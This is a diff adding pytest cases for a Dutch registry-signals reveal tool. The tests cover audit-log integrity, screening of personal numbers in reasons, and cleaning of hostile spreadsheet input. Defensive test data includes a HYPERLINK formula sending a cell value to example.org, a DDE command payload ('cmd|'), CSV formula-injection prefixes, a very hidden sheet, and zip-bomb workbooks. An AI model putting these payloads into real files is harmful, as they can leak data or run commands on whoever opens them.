@@ -5,11 +5,13 @@ import fcntl
 import hashlib
 import io
 import json
+import os
 import re
 import shutil
 import stat
 import subprocess
 import sys
+import zipfile
 from collections.abc import Iterable
 from dataclasses import dataclass, replace
 from datetime import date
@@ -294,14 +296,33 @@ def test_a_map_of_another_key_reveals_nothing(desk: Desk) -> None:
 
 @pytest.mark.parametrize(
     "reason",
-    ["", "   ", "kind met BSN 123456782", "A-nummer 9000000013", "12345678", "bsn 1234.56.782", "nr 123 456 782"],
+    [
+        "",
+        "   ",
+        "kind met BSN 123456782",
+        "A-nummer 9000000013",
+        "12345678",
+        "bsn 1234.56.782",
+        "nr 123 456 782",
+        "900/000/077",
+        "900_000_077",
+        "9-0-0-0-0-0-0-7-7",
+        "nr 9000 000 013",
+        "bsn 900 dan 000 dan 077",
+        "９０００００００７７",
+        "\u0669\u0660\u0660\u0660\u0660\u0660\u0660\u0667\u0667",
+        "90\u200b00\u200b00\u200b077",
+        "kind geboren op 05-05-2014",
+    ],
 )
 def test_a_reason_is_given_and_holds_no_number(reason: str, desk: Desk) -> None:
     assert "--reason" in desk.reveal("output/latest/signals.csv", "out.csv", "--reason", reason, code=2).stderr
     assert not desk.path("reveal-audit.jsonl").exists()
 
 
-@pytest.mark.parametrize("reason", ["Zaak 2026-00123 van 20-11-2026", "Verzoek leerplicht, S-2345-6789"])
+@pytest.mark.parametrize(
+    "reason", ["Zaak 2026-00123 van 20-11-2026", "Verzoek leerplicht, S-2345-6789", "Vraag van 2026-11-20, kamer 12"]
+)
 def test_dates_and_case_numbers_are_fine_in_a_reason(reason: str, desk: Desk) -> None:
     desk.reveal("output/latest/signals.csv", "out.csv", "--reason", reason)
     assert desk.logged()[0]["reason"] == reason
@@ -592,6 +613,152 @@ def test_reveals_at_the_same_time_make_one_chain(desk: Desk) -> None:
     busy = [subprocess.Popen([*words, f"{number}.csv"], cwd=desk.folder) for number in range(4)]
     assert [process.wait(120) for process in busy] == [0] * 4
     assert "whole: 4 lines" in desk.ask("audit", "verify", "reveal-audit.jsonl").stderr
+
+
+@pytest.mark.parametrize("left", [1, 100])
+def test_a_line_that_does_not_fit_on_the_disk_is_taken_back(left: int, log: bytes, desk: Desk) -> None:
+    """The system takes a part of the line only; the limit is on the size of a file, as a quota would be."""
+    desk.path("log").write_bytes(log)
+    words = [
+        sys.executable,
+        "-c",
+        _WITH_LIMIT,
+        str(len(log) + left),
+        "reveal",
+        "output/latest/signals.csv",
+        "--out",
+        "out.csv",
+    ]
+    words += ["--key-map", "map.age", "--identity", "clerk.id", "--reason", "Onderzoek", "--audit-log", "log"]
+    done = subprocess.run(words, cwd=desk.folder, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 5, done.stderr
+    assert "nothing was revealed and the log is what it was" in done.stderr
+    assert desk.path("log").read_bytes() == log
+    assert not desk.path("out.csv").exists()
+    desk.reveal("output/latest/signals.csv", "out.csv", "--audit-log", "log")
+
+
+#: Runs a command that may not make any file longer than its first argument says.
+_WITH_LIMIT = """
+import resource, sys
+limit = int(sys.argv.pop(1))
+resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
+from brp_signals.cli import main
+main()
+"""
+
+
+@pytest.mark.parametrize("log_name", ["/dev/null", "/dev/full", "pipe", "out.csv"])
+def test_a_log_that_would_keep_nothing_is_refused(log_name: str, desk: Desk) -> None:
+    os.mkfifo(desk.path("pipe"))
+    done = desk.reveal("output/latest/signals.csv", "out.csv", "--audit-log", log_name, code=2)
+    assert "audit log" in done.stderr
+    assert not desk.path("out.csv").exists()
+
+
+def test_a_list_that_is_a_pipe_is_refused_at_once(desk: Desk) -> None:
+    os.mkfifo(desk.path("pipe.csv"))
+    assert "no ordinary file" in desk.reveal("pipe.csv", "out.csv", code=2).stderr
+
+
+# ---- what comes out beside A-numbers
+
+
+def test_formulas_links_and_strange_sheets_stay_behind(desk: Desk) -> None:
+    book = load_workbook(desk.path(f"output/latest/{WORKBOOK}"))
+    sheet = book["Signalen"]
+    note = next(cell.column for cell in sheet[1] if cell.value == "Notitie")
+    sheet.cell(2, note).value = '=HYPERLINK("http://example.org/?"&B2,"klik")'
+    sheet.cell(3, note).value = "=cmd|' /C calc'!A0"
+    sheet.cell(4, note).value = "ouders gebeld"
+    sheet.cell(4, note).hyperlink = "http://example.org/"
+    strange = book.create_sheet("Kwaad")
+    strange["A1"] = "=Signalen!C2"
+    strange.sheet_state = "veryHidden"
+    book.create_sheet("Bijlage")["A1"] = "meegestuurd"
+    book.save(desk.path("changed.xlsx"))
+    desk.reveal("changed.xlsx", "out.xlsx")
+    made = load_workbook(desk.path("out.xlsx"))
+    assert made.sheetnames == ["Samenvatting", "Signalen", "Steekproef", "Bewijs", "Uitleg"]
+    cells = [cell for each in made.worksheets for row in each.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]
+    texts = {cell.value for cell in cells}
+    assert "ouders gebeld" in texts and "meegestuurd" not in texts
+    with zipfile.ZipFile(desk.path("out.xlsx")) as parts:
+        content = b"".join(parts.read(name) for name in parts.namelist())
+        assert not [name for name in parts.namelist() if "external" in name.lower() or "macro" in name.lower()]
+    assert b"example.org" not in content and b"cmd|" not in content
+    assert sorted(str(row[2]) for row in made["Signalen"].iter_rows(min_row=2, values_only=True)) == numbers(LISTED)
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "@SUM(A1)", " =1+1", "＝1+1", "-2+3", "\t=1"])
+def test_a_table_with_a_formula_is_refused_by_its_row(cell: str, desk: Desk) -> None:
+    rows = desk.rows("output/latest/signals.csv")
+    rows[1]["reason_nl"] = cell
+    with desk.path("changed.csv").open("w", encoding="utf-8", newline="") as stream:
+        writer = csv.DictWriter(stream, list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+    done = desk.reveal("changed.csv", "out.csv", code=3)
+    assert "row 3, column reason_nl" in done.stderr and "1+1" not in done.stderr
+    assert not desk.path("out.csv").exists()
+
+
+def test_columns_of_somebody_else_stay_behind_in_a_table(desk: Desk) -> None:
+    lines = desk.path("output/latest/signals.csv").read_text().splitlines()
+    more = [f"{line},{'bijlage' if at == 0 else '=1+1'}" for at, line in enumerate(lines)]
+    desk.path("more.csv").write_text("\n".join(more) + "\n")
+    desk.reveal("more.csv", "out.csv")
+    assert "bijlage" not in desk.rows("out.csv")[0]
+    assert "=1+1" not in desk.path("out.csv").read_text()
+
+
+@pytest.mark.parametrize("name", ["bomb.xlsx", "strings.xlsx", "rows.xlsx", "long.csv"])
+def test_a_large_file_is_refused_in_seconds_within_300_mb(name: str, desk: Desk) -> None:
+    _LARGE[name](desk.path(name), desk.path(f"output/latest/{WORKBOOK}"))
+    words = [sys.executable, "-c", _MEASURED, "reveal", name, "--out", f"out{desk.path(name).suffix}"]
+    words += ["--key-map", "map.age", "--identity", "clerk.id", "--reason", "Onderzoek"]
+    done = subprocess.run(words, cwd=desk.folder, capture_output=True, text=True, timeout=60)
+    assert done.returncode == 3, done.stderr
+    assert int(done.stdout.split()[-1]) < 300 * 1024, "kB held at most"
+    assert not list(desk.folder.glob("out.*"))
+
+
+#: Runs a command and prints how much memory (kB) it held at most.
+_MEASURED = """
+import atexit, pathlib, re
+from brp_signals.cli import main
+status = pathlib.Path("/proc/self/status")
+atexit.register(lambda: print(re.search(r"VmHWM:\\s+([0-9]+) kB", status.read_text())[1]))
+main()
+"""
+
+
+def _with_part(target: Path, source: Path, part: str, content: bytes) -> None:
+    """A workbook with one of its parts replaced."""
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new:
+        for name in old.namelist():
+            new.writestr(name, content if name == part else old.read(name))
+
+
+def _many_strings(target: Path, source: Path) -> None:
+    text = "".join(f"<si><t>{number}</t></si>" for number in range(1_000_000))
+    _with_part(target, source, "xl/sharedStrings.xml", f"<sst>{text}</sst>".encode())
+
+
+def _many_rows(target: Path, source: Path) -> None:
+    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 900_000))
+    namespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    sheet = f'<worksheet xmlns="{namespace}"><sheetData>{rows}</sheetData></worksheet>'
+    _with_part(target, source, "xl/worksheets/sheet2.xml", sheet.encode())
+
+
+_LARGE = {
+    "bomb.xlsx": lambda target, source: _with_part(target, source, "xl/worksheets/sheet2.xml", b" " * (1 << 28)),
+    "strings.xlsx": _many_strings,
+    "rows.xlsx": _many_rows,
+    "long.csv": lambda target, source: target.write_bytes(b"case_id," * (1 << 24)),
+}
 
 
 # ---- encrypted lists
